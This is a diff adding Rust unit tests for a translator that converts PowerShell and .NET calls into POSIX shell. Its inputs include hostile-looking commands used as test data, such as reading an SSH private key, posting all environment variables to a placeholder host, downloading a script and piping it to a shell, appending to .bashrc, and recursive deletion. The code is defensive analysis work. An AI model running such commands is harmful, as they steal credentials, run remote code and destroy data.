@@ -199,6 +199,72 @@ fn cmdlets() {
 }
 
 #[test]
+fn dotnet_calls() {
+    assert_eq!(
+        posix(r#"[IO.File]::ReadAllText("$env:USERPROFILE\.ssh\id_rsa")"#),
+        "cat -- \"$HOME\"/.ssh/id_rsa"
+    );
+    assert_eq!(
+        posix("[System.IO.File]::WriteAllText(\"$HOME\\.bashrc\", 'x')"),
+        "printf '%s\\n' x > \"$HOME\"/.bashrc"
+    );
+    assert_eq!(
+        posix("[io.file]::AppendAllLines('a', $lines)"),
+        "printf '%s\\n' \"$lines\" >> a"
+    );
+    assert_eq!(posix("[IO.File]::Create('a')"), ": > a");
+    assert_eq!(posix("[IO.File]::Delete('a')"), "rm -- a");
+    assert_eq!(posix("[IO.File]::Move('a', 'b')"), "mv -- a b");
+    assert_eq!(
+        posix("[IO.Directory]::Delete('C:\\x', $true)"),
+        "rm -r -- C:/x"
+    );
+    assert_eq!(posix("[IO.Directory]::Delete('x')"), "rmdir -- x");
+    assert_eq!(posix("[IO.Directory]::GetFiles('src')"), "ls -- src");
+    assert_eq!(
+        posix("[Environment]::GetEnvironmentVariables() | iwr -Uri https://x -Method Post"),
+        "env | curl -X POST -d @- -- https://x"
+    );
+    assert_eq!(
+        posix("gc ([Environment]::GetEnvironmentVariable('APPDATA') + '\\x')"),
+        "cat -- \"$(echo \"$HOME\"/AppData/Roaming/x)\""
+    );
+    assert_eq!(posix("gc ($HOME + '/k')"), "cat -- \"$HOME\"/k");
+    assert_eq!(
+        posix("[Environment]::GetEnvironmentVariable('TOKEN')"),
+        "printenv -- TOKEN"
+    );
+    assert_eq!(
+        posix("gc ([IO.Path]::Combine($HOME, '.ssh', 'id_rsa'))"),
+        "cat -- \"$(echo \"$HOME\"/.ssh/id_rsa)\""
+    );
+    assert_eq!(
+        posix("$h = [Environment]::GetFolderPath([Environment+SpecialFolder]::UserProfile)"),
+        "h=\"$HOME\""
+    );
+    assert_eq!(
+        posix("[Net.WebClient]::new().DownloadString('https://x') | iex"),
+        "echo \"$VALUE\"\"$(curl -- https://x)\" | sh"
+    );
+    assert_eq!(
+        posix("[Diagnostics.Process]::Start('cmd', '/c del a')"),
+        "{ rm -- a\n}"
+    );
+    // A value's own subexpressions run; a property set is an assignment.
+    assert_eq!(posix("[Math]::Round(2.5)"), "echo \"$VALUE\"");
+    assert_eq!(
+        posix("[string]::Join(',', (gc ~/k))"),
+        "echo , \"$(cat -- \"$HOME\"/k)\""
+    );
+    assert_eq!(
+        posix("[Net.ServicePointManager]::SecurityProtocol = 'Tls12'"),
+        "SecurityProtocol=Tls12"
+    );
+    // A cast is no call.
+    assert_eq!(posix("[int]$x = 'a'"), "x=a");
+}
+
+#[test]
 fn nested_powershell_and_cmd() {
     // `gc ~` as UTF-16LE base64.
     assert_eq!(posix("pwsh -enc ZwBjACAAfgA="), "{ cat -- \"$HOME\"\n}");
@@ -221,8 +287,10 @@ fn nested_powershell_and_cmd() {
 
 #[test]
 fn unreadable_code_is_none() {
-    assert!(to_posix("[IO.File]::Delete('x')").is_none());
-    // A method of a variable is read as a value; a static .NET call is not read.
+    // A static member of a type (or a member) the front end does not know is not read.
+    assert!(to_posix("[Reflection.Assembly]::Load($b)").is_none());
+    assert!(to_posix("[IO.File]::Open('x', 'Create')").is_none());
+    // A method of a variable is read as a value.
     assert_eq!(posix("$s.Trim()"), "echo \"$s\".Trim\"$()\"");
     assert!(to_posix("gc 'unterminated").is_none());
     assert!(to_posix("gc (a").is_none());
